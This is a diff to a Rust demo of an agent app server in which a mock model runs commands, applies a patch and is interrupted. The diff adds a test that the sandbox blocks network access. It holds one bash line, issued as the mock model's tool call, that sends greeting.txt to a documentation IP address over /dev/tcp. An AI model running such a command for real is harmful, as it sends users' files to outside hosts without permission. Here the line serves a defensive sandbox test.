@@ -1,7 +1,8 @@
 //! `codex-app-server demo`: the whole stack at work, without a key and without a network.
 //!
 //! A mock model and this program itself, as a child over pipes, hold a short conversation: a turn with reasoning,
-//! streamed text, a command and a patch that are asked for, and a turn that is interrupted. Every frame is shown, every
+//! streamed text, a command and a patch that are asked for, a command whose sandbox keeps it from the network, and a turn
+//! that is interrupted. Every frame is shown, every
 //! expectation is checked, and the times are summed up at the end. All files are in a temporary folder.
 
 mod folder;
@@ -35,6 +36,8 @@ const PATCH: &str = "\
 ";
 const DIFF: &str = "@@ -1 +1 @@\n-hello from the demo\n+Hello from the demo!\n";
 const PATCHED: &str = "Success. Updated the following files:";
+/// What no sandbox lets through. The address is kept for documents (RFC 5737), so nobody is there.
+const UPLOAD: &str = "echo 'sending the greeting to 192.0.2.1'; cat greeting.txt > /dev/tcp/192.0.2.1/80";
 const RESULT: &str = "Done: `greeting.txt` now says “Hello from the demo!”.";
 const SECOND_QUESTION: &str = "Now tell me a very long story.";
 const STORY: &str = "Once upon a time there was a pipe, and at its other end";
@@ -106,11 +109,12 @@ fn script() -> Script {
                 .expect(Condition::input(GREETING))
                 .custom_call("call-2", "apply_patch", PATCH),
         )
-        .then(
-            Answer::new()
-                .expect(Condition::input(PATCHED))
-                .step(say(RESULT, "final_answer", 5)),
-        )
+        .then(Answer::new().expect(Condition::input(PATCHED)).call(
+            "call-3",
+            "exec_command",
+            json!({"cmd": UPLOAD, "shell": "bash", "login": false}),
+        ))
+        .then(Answer::new().step(say(RESULT, "final_answer", 5)))
         .then(
             Answer::new()
                 .expect(Condition::input(SECOND_QUESTION))
@@ -146,9 +150,9 @@ async fn converse(
     let thread = text(&answer["thread"]["id"], "the thread's id")?;
     times.memory = session.memory();
 
-    session
-        .show()
-        .heading("A turn with reasoning, text, and a command and a patch that need your word");
+    session.show().heading(
+        "A turn with reasoning, text, a command and a patch that need your word, and one that is kept in",
+    );
     first_turn(session, model, &thread, times).await?;
     ensure!(
         folder.work_file("greeting.txt") == "Hello from the demo!\n"
@@ -219,6 +223,14 @@ async fn first_turn(
         "the command's output is wrong: {item}"
     );
     patch(session, times).await?;
+    let refused = session
+        .until("item/completed", |params| params["item"]["id"] == "call-3")
+        .await?;
+    let item = &refused["params"]["item"];
+    ensure!(
+        item["status"] == "failed" && item["exitCode"] != 0,
+        "a command without permission reached the network: {item}"
+    );
 
     let end = session
         .until("turn/completed", |params| params["turn"]["id"] == turn)
@@ -239,7 +251,7 @@ async fn first_turn(
         "the questions were not declared resolved"
     );
     ensure!(
-        count(frames, "thread/tokenUsage/updated") == 3,
+        count(frames, "thread/tokenUsage/updated") == 4,
         "the usage of all answers was not told"
     );
     ensure!(
